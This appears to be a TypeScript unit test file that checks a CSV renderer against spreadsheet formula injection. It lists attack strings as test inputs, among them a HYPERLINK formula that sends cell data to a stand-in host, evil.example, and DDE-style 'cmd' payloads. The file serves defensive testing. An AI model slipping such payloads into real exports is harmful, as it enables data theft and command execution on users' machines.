import { parse } from 'csv-parse/sync';
import { renderCsv } from '../../../../../shared/rules/documents/renderCsv';

const csv = ([heads = [], ...rows]: string[][]) => renderCsv({ heads, rows });

const attacks = [
  '=HYPERLINK("http://evil.example/?x="&A1)',
  '+1+cmd|x!A1',
  '-2+3+cmd|x!A1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  'a;=1+1',
  'a; +1+1',
  'a\t=1+1',
  'a\n@SUM(1)',
  '";=1+1',
  '";"=1+1',
];

/** What a spreadsheet would compute. */
const isFormula = (cell: string) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell);

test.each(attacks)('renderCsv makes %j inert, also in a spreadsheet that separates by semicolons or tabs', (text) => {
  const written = csv([
    ['a', 'b'],
    ['1', text],
  ]);
  for (const delimiter of [',', ';', '\t']) {
    const cells = parse(written, { delimiter, relax_quotes: true, relax_column_count: true }).flat();
    expect(cells.filter(isFormula)).toEqual([]);
  }
});

test('renderCsv keeps every other visible text as it is, for a real parser', () => {
  const rows = [
    ['name', 'text'],
    ['plain', 'a, "b" and \'c\''],
    ['', 'two  blanks; of text'],
    ['ümläut', '=a'.slice(1)],
  ];
  expect(parse(csv(rows))).toEqual(rows);
});

test.each([0, 12, 3.25, -1])('renderCsv does not change the number %d', (number) => {
  expect(parse(renderCsv({ heads: [], rows: [[number]] }), { skip_empty_lines: true })).toEqual([[String(number)]]);
});

test('renderCsv keeps each text on one line, without invisible characters', () => {
  const hostile = 'a\r\nb\u202ec\u0000d\u001b[31m';
  expect(parse(csv([['head'], [hostile]]))).toEqual([['head'], ['a  bcd[31m']]);
});
